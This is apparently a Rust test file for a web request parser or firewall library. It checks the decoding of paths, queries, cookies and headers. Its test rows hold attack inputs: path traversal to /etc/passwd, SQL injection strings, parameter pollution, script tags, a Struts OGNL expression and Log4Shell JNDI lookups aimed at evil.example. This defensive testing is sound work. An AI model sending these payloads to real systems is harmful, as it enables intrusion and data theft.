//! Targets, headers and cookies.

use palisade::model::{Anomaly, Limits, Zone};
use palisade::request::{Fields, Head, Kind, is_websocket_upgrade, read_head, read_trailers};

use crate::{Row, check, list, odd, post, target, text};

#[test]
fn targets() {
    let rows: &[Row<'_>] = &[
        (
            "RFC 3986, 2.1: the path is decoded once",
            b"/a%20b%2527",
            &["path||/a b%27"],
            &[],
        ),
        (
            "RFC 3986: + is no space in a path",
            b"/a+b",
            &["path||/a+b"],
            &[],
        ),
        (
            "traversal with encoded slashes",
            b"/..%2f..%2fetc/passwd",
            &["path||/../../etc/passwd"],
            &[],
        ),
        (
            "RFC 3986, 2.1: broken escapes stay",
            b"/100%",
            &["path||/100%"],
            &["invalid_percent"],
        ),
        (
            "a null byte cuts the name for C programs (CWE-158)",
            b"/a.php%00.jpg",
            &["path||/a.php\0.jpg"],
            &["null_byte"],
        ),
        (
            "RFC 9112, 3.2.2: absolute form",
            b"http://evil.example/a?b=1",
            &["path||/a", "query_string|b|1"],
            &[],
        ),
        (
            "absolute form without a path",
            b"http://evil.example?b=1",
            &["path||", "query_string|b|1"],
            &[],
        ),
        (
            "a slash in front makes it a path",
            b"/http://x/y",
            &["path||/http://x/y"],
            &[],
        ),
        ("RFC 9112, 3.2.4: asterisk form", b"*", &["path||*"], &[]),
        (
            "a fragment never reaches a server by a browser; what does is read",
            b"/a#/../b?c=d",
            &["path||/a#/../b", "query_string|c|d"],
            &["invalid_url_byte"],
        ),
        (
            "spaces and quotes that no browser sends",
            b"/a?q=\"<b> c\"",
            &["path||/a", "query_string|q|\"<b> c\""],
            &["invalid_url_byte"],
        ),
        (
            "raw UTF-8 as old clients send it",
            "/ä".as_bytes(),
            &["path||/ä"],
            &["invalid_url_byte"],
        ),
        (
            "browsers send | ^ { } [ ] and ` raw in a query",
            b"/?a=|^{}[]`",
            &["path||/", "query_string|a||^{}[]`"],
            &[],
        ),
        ("an empty query", b"/a?", &["path||/a"], &[]),
        (
            "the second question mark is a value",
            b"/a?b=c?d=e",
            &["path||/a", "query_string|b|c?d=e"],
            &[],
        ),
        ("nothing at all", b"", &["path||"], &[]),
    ];
    check(rows, target);
}

#[test]
fn queries() {
    let rows: &[Row<'_>] = &[
        (
            "WHATWG URL, 5.1: + is a space",
            b"a=b+c%2Bd",
            &["query_string|a|b c+d"],
            &[],
        ),
        (
            "a name without a value",
            b"abc",
            &["query_string|abc|"],
            &[],
        ),
        (
            "an attack as a name",
            b"%3Cscript%3E",
            &["query_string|<script>|"],
            &[],
        ),
        ("a value without a name", b"=v", &["query_string||v"], &[]),
        (
            "the first = divides",
            b"a==b=",
            &["query_string|a|=b="],
            &[],
        ),
        (
            "a doubled &",
            b"a=1&&b=2",
            &["query_string|a|1", "query_string|b|2"],
            &["malformed_query"],
        ),
        (
            "a trailing &",
            b"a=1&",
            &["query_string|a|1"],
            &["malformed_query"],
        ),
        (
            "a leading &",
            b"&a=1",
            &["query_string|a|1"],
            &["malformed_query"],
        ),
        ("nothing but &", b"&", &[], &["malformed_query"]),
        (
            "arrays of PHP and Rails keep their names",
            b"a[]=1&a[b][c]=2&a%5B0%5D=3",
            &[
                "query_string|a[]|1",
                "query_string|a[b][c]|2",
                "query_string|a[0]|3",
            ],
            &[],
        ),
        (
            "half an escape",
            b"a=%2&b=%zz&c=%",
            &[
                "query_string|a|%2",
                "query_string|b|%zz",
                "query_string|c|%",
            ],
            &["invalid_percent"],
        ),
        (
            "%u is IIS notation, no escape of RFC 3986",
            b"a=%u0027",
            &["query_string|a|%u0027"],
            &["invalid_percent"],
        ),
        (
            "HTTP parameter pollution: ASP joins with commas (CWE-235)",
            b"id=1/**/union/*&id=*/select/*&id=*/pw",
            &[
                "query_string|id|1/**/union/*",
                "query_string|id|*/select/*",
                "query_string|id|*/pw",
                "query_string|id|1/**/union/*,*/select/*,*/pw",
            ],
            &[],
        ),
        (
            "HTTP parameter pollution with bare words",
            b"q=select+1&x=0&q=2+from+t",
            &[
                "query_string|q|select 1",
                "query_string|x|0",
                "query_string|q|2 from t",
                "query_string|q|select 1,2 from t",
            ],
            &[],
        ),
        (
            "a list of ids is no attack and joins to nothing new",
            b"id=1&id=2&id=abc-3",
            &[
                "query_string|id|1",
                "query_string|id|2",
                "query_string|id|abc-3",
            ],
            &[],
        ),
        (
            "HTML 4.01, B.2.2: servers that split at ;",
            b"a=1;b=%27&c=2",
            &[
                "query_string|a|1;b='",
                "query_string|c|2",
                "query_string|b|'",
            ],
            &[],
        ),
        (
            "a ; in a sentence is no separator",
            b"a=one;+two",
            &["query_string|a|one; two"],
            &[],
        ),
        (
            "names are decoded too",
            b"%61%27=1",
            &["query_string|a'|1"],
            &[],
        ),
        (
            "a null byte in a value",
            b"a=b%00c",
            &["query_string|a|b\0c"],
            &["null_byte"],
        ),
        (
            "bytes that are not UTF-8 stay",
            b"a=%ff%c0%a7",
            &["query_string|a|\\xff\\xc0\\xa7"],
            &[],
        ),
        (
            "GraphQL over GET: the strings of the document",
            b"query={user(name:%22%27%20or%201%22){id}}",
            &[
                "query_string|query.user.name|' or 1",
                "query_string|query|{user(name:\"' or 1\"){id}}",
            ],
            &[],
        ),
        (
            "GraphQL over GET: variables are JSON",
            b"variables={%22a%22:%22%5Cu0027%22}",
            &[
                "query_string|variables.a|'",
                "query_string|variables|{\"a\":\"\\u0027\"}",
            ],
            &[],
        ),
        (
            "a search for a brace is no document",
            b"query={x}+or+%27",
            &["query_string|query|{x} or '"],
            &[],
        ),
    ];
    check(rows, |query| {
        let whole = target(&[b"/?", query].concat());
        // Without the path.
        let mut fields = Fields::default();
        for field in whole.iter().filter(|field| field.zone != Zone::Path) {
            fields.push(
                &Limits::default(),
                field.zone,
                field.kind,
                whole.get(field.name),
                whole.get(field.value),
            );
        }
        for anomaly in whole.anomalies().iter() {
            fields.find(anomaly, Zone::QueryString, b"");
        }
        fields
    });
}

#[test]
fn the_wire_form_stays_where_it_differs() {
    let fields = target(b"/%2e%2e/?a%20=b+c&d=e");
    let wire: Vec<_> = fields
        .iter()
        .map(|field| {
            let get = |span: Option<_>| span.map(|span| text(fields.get(span)));
            (get(field.wire_name), get(field.wire_value))
        })
        .collect();
    assert_eq!(
        wire,
        [
            (None, Some("/%2e%2e/".into())),
            (Some("a%20".into()), Some("b+c".into())),
            // The pair in one piece, because no form has such a name.
            (None, None),
            (None, None),
        ]
    );
}

#[test]
fn a_graphql_document_is_no_text_beside_its_strings() {
    let fields = target(b"/?query={a(b:%22c%22)}");
    let kinds: Vec<_> = fields.iter().map(|field| field.kind).collect();
    assert_eq!(kinds, [Kind::Text, Kind::Text, Kind::Token]);
}

fn cookies(header: &[u8]) -> Fields {
    let mut fields = Fields::default();
    let headers: &[(&[u8], &[u8])] = &[(b"Cookie", header)];
    read_trailers(headers, &Limits::default(), &mut fields);
    fields
}

#[test]
fn cookie_headers() {
    let rows: &[Row<'_>] = &[
        (
            "RFC 6265, 4.2.1",
            b"a=1; b=2",
            &["cookies|a|1", "cookies|b|2"],
            &[],
        ),
        (
            "no space behind ;",
            b"a=1;b=2;",
            &["cookies|a|1", "cookies|b|2"],
            &[],
        ),
        (
            "PHP decodes cookies",
            b"a=%27+or+1",
            &["cookies|a|' or 1"],
            &[],
        ),
        ("a lone % is common", b"a=100%", &["cookies|a|100%"], &[]),
        (
            "a name alone",
            b"flag; a=1",
            &["cookies|flag|", "cookies|a|1"],
            &[],
        ),
        (
            "= in a value, as in base64",
            b"a=YQ==",
            &["cookies|a|YQ=="],
            &[],
        ),
        (
            "RFC 6265: quotes are no part of the value",
            b"a=\"x y\"",
            &["cookies|a|x y"],
            &[],
        ),
        (
            "octal escapes of Python's http.cookies hide letters",
            b"a=\"\\047 \\157r 1\"",
            &["cookies|a|' or 1"],
            &[],
        ),
        (
            "backslash escapes of Jetty and Tomcat",
            b"$Version=1; a=\"\\<\\s\\c\\r\\ipt\"",
            &["cookies|$Version|1", "cookies|a|<script"],
            &[],
        ),
        (
            "RFC 2965: a quoted value may hold ;",
            b"a=\"x; b=' or 1\"; c=3",
            &[
                "cookies|a|\"x",
                "cookies|a|x; b=' or 1",
                "cookies|b|' or 1\"",
                "cookies|c|3",
            ],
            &[],
        ),
        (
            "a quote that never closes",
            b"a=\"x; b=\"y; c=z",
            &[
                "cookies|a|\"x",
                "cookies|a|x; b=",
                "cookies|b|\"y",
                "cookies|c|z",
            ],
            &[],
        ),
        (
            "RFC 2109: commas divide as well",
            b"a=1, b=%27",
            &["cookies|a|1, b='", "cookies|b|'"],
            &[],
        ),
        (
            "a comma in a value is a comma",
            b"a=1,2",
            &["cookies|a|1,2"],
            &[],
        ),
        ("white space around =", b" a = 1 ", &["cookies|a|1"], &[]),
        (
            "the same name twice: both are read",
            b"a=1; a=2",
            &["cookies|a|1", "cookies|a|2"],
            &[],
        ),
        ("null bytes", b"a=%00", &["cookies|a|\0"], &["null_byte"]),
        ("nothing", b" ; ;", &[], &[]),
    ];
    check(rows, cookies);
}

#[test]
fn several_cookie_headers_are_all_read() {
    // RFC 9113, 8.2.3: HTTP/2 sends one header a cookie.
    let mut fields = Fields::default();
    let headers: &[(&[u8], &[u8])] = &[(b"cookie", b"a=1"), (b"cookie", b"b=2")];
    read_trailers(headers, &Limits::default(), &mut fields);
    assert_eq!(list(&fields), ["cookies|a|1", "cookies|b|2"]);
    assert_eq!(odd(&fields), [""; 0]);
}

/// The kind that the value of a header gets.
fn kind(name: &str, value: &str) -> Kind {
    let mut fields = Fields::default();
    let headers: &[(&[u8], &[u8])] = &[(name.as_bytes(), value.as_bytes())];
    read_trailers(headers, &Limits::default(), &mut fields);
    fields.list().last().expect("a field").kind
}

#[test]
fn machine_syntax_is_no_text_as_long_as_it_keeps_to_its_grammar() {
    let tokens = [
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc-_"),
        ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
        ("accept-language", "de-DE, de;q=0.9, en;q=0.8"),
        ("accept-encoding", "gzip, deflate, br, zstd"),
        ("if-none-match", "W/\"67ab43\", \"686897696a7c876b7e\""),
        ("cache-control", "max-age=0, no-cache"),
        (
            "content-type",
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
        ),
        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
        (
            "traceparent",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        ),
        (
            "sec-ch-ua",
            "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\"",
        ),
        ("sec-fetch-mode", "cors"),
        ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("x-trace-bin", "AAECAwQ="),
        ("range", "bytes=0-499"),
        ("host", "shop.example:8443"),
        ("origin", "https://shop.example"),
    ];
    for (name, value) in tokens {
        assert_eq!(kind(name, value), Kind::Token, "{name}: {value}");
    }
    assert_eq!(kind("content-length", "348"), Kind::Number);
    assert_eq!(kind("dnt", "1"), Kind::Number);
    let texts = [
        // Struts read the content type as an expression (CVE-2017-5638).
        (
            "content-type",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}",
        ),
        // Log4Shell (CVE-2021-44228) came in every header there is.
        ("authorization", "Bearer ${jndi:ldap://evil.example/a}"),
        ("accept", "${jndi:ldap://evil.example/a}"),
        ("x-request-id", "${jndi:ldap://evil.example/a}"),
        ("if-modified-since", "1' union select 1 from users -- GMT"),
        // Content management systems wrote the language into their SQL.
        ("accept-language", "en' and sleep(5)--"),
        ("accept-language", "en union select a from b"),
        ("content-length", "0x10"),
        ("host", "shop.example'--"),
        ("sec-ch-ua", "<script>"),
        // Text by nature.
        ("user-agent", "Mozilla/5.0"),
        ("referer", "https://shop.example/"),
        ("x-forwarded-for", "192.0.2.1"),
        ("x-forwarded-host", "shop.example"),
        ("x-custom", "abc"),
        ("x-original-url", "/admin"),
    ];
    for (name, value) in texts {
        assert_eq!(kind(name, value), Kind::Text, "{name}: {value}");
    }
}

#[test]
fn basic_credentials_show_the_user_name_and_not_the_password() {
    let mut fields = Fields::default();
    // ' or 1=1--:secret
    let headers: &[(&[u8], &[u8])] = &[(b"authorization", b"Basic JyBvciAxPTEtLTpzZWNyZXQ=")];
    read_trailers(headers, &Limits::default(), &mut fields);
    assert_eq!(
        list(&fields),
        [
            "request_header|authorization|' or 1=1--",
            "request_header|authorization|Basic JyBvciAxPTEtLTpzZWNyZXQ="
        ]
    );
}

#[test]
fn headers_that_disagree() {
    let cases: &[(&str, &[(&[u8], &[u8])], &[&str])] = &[
        (
            "RFC 9112, 11.2: two lengths",
            &[(b"content-length", b"1"), (b"Content-Length", b"1")],
            &["duplicate_header"],
        ),
        (
            "two lengths in one line",
            &[(b"content-length", b"1, 2")],
            &["duplicate_header"],
        ),
        (
            "RFC 9112, 3.2: two hosts",
            &[(b"host", b"a"), (b"host", b"a")],
            &["duplicate_header"],
        ),
        (
            "two types",
            &[
                (b"content-type", b"text/plain"),
                (b"content-type", b"text/html"),
            ],
            &["duplicate_header"],
        ),
        (
            "two codings of transfer",
            &[
                (b"transfer-encoding", b"chunked"),
                (b"transfer-encoding", b"x"),
            ],
            &["duplicate_header"],
        ),
        (
            "RFC 9110, 5.3: lists may repeat",
            &[
                (b"accept", b"a/b"),
                (b"accept", b"c/d"),
                (b"x-a", b"1"),
                (b"x-a", b"2"),
            ],
            &[],
        ),
        (
            "Latin-1 in a header",
            &[(b"x-name", b"caf\xe9")],
            &["header_not_utf8"],
        ),
        (
            "pseudo headers are no headers",
            &[(b":path", b"/\xff"), (b":path", b"/")],
            &[],
        ),
    ];
    for (why, headers, expected) in cases {
        let mut fields = Fields::default();
        read_trailers(headers, &Limits::default(), &mut fields);
        assert_eq!(odd(&fields), *expected, "{why}");
    }
    let headers: &[(&[u8], &[u8])] = &[(b"host", b"other.example")];
    let mut fields = Fields::default();
    let head = Head {
        authority: b"shop.example",
        ..post(headers)
    };
    read_head(&head, &Limits::default(), &mut fields);
    assert!(fields.anomalies().contains(Anomaly::DuplicateHeader));
}

#[test]
fn only_a_handshake_is_a_websocket() {
    let upgrade: (&[u8], &[u8]) = (b"Upgrade", b"WebSocket");
    let connection: (&[u8], &[u8]) = (b"connection", b"keep-alive, Upgrade");
    let version: (&[u8], &[u8]) = (b"sec-websocket-version", b"13");
    let key: (&[u8], &[u8]) = (b"sec-websocket-key", b"dGhlIHNhbXBsZSBub25jZQ==");
    let get = |headers: &[(&[u8], &[u8])], method: &[u8], protocol: &[u8]| {
        is_websocket_upgrade(&Head {
            method,
            protocol,
            ..post(headers)
        })
    };
    let all: &[(&[u8], &[u8])] = &[upgrade, connection, version, key];
    assert!(get(all, b"GET", b"HTTP/1.1"), "RFC 6455, 4.1");
    assert!(get(&[version], b"CONNECT", b"websocket"), "RFC 8441, 4");
    assert!(
        get(&[upgrade, connection, version], b"GET", b"HTTP/2"),
        "extended CONNECT as Envoy rewrites it"
    );
    assert!(!get(all, b"POST", b"HTTP/1.1"));
    assert!(!get(all, b"get", b"HTTP/1.1"), "methods are case-sensitive");
    assert!(!get(&[upgrade], b"GET", b"HTTP/1.1"));
    assert!(!get(&[upgrade, connection], b"GET", b"HTTP/1.1"));
    assert!(
        !get(&[upgrade, connection, version], b"GET", b"HTTP/1.1"),
        "no key"
    );
    assert!(
        !get(&[upgrade, connection, key], b"GET", b"HTTP/1.1"),
        "no version"
    );
    assert!(
        !get(&[upgrade, version, key], b"GET", b"HTTP/1.1"),
        "no connection"
    );
    assert!(!get(
        &[upgrade, connection, version, (b"sec-websocket-key", b"x")],
        b"GET",
        b"HTTP/1.1"
    ));
    assert!(
        !get(
            &[upgrade, connection, key, (b"sec-websocket-version", b"777")],
            b"GET",
            b"HTTP/1.1"
        ),
        "a version that no server takes is answered with 426, and the connection stays HTTP"
    );
    assert!(
        !get(
            &[(b"upgrade", b"h2c"), connection, version, key],
            b"GET",
            b"HTTP/1.1"
        ),
        "h2c smuggling"
    );
    assert!(!get(&[version], b"CONNECT", b"connect-udp"));
    let with_body: &[(&[u8], &[u8])] =
        &[upgrade, connection, version, key, (b"content-length", b"5")];
    assert!(
        !get(with_body, b"GET", b"HTTP/1.1"),
        "a handshake has no body"
    );
}
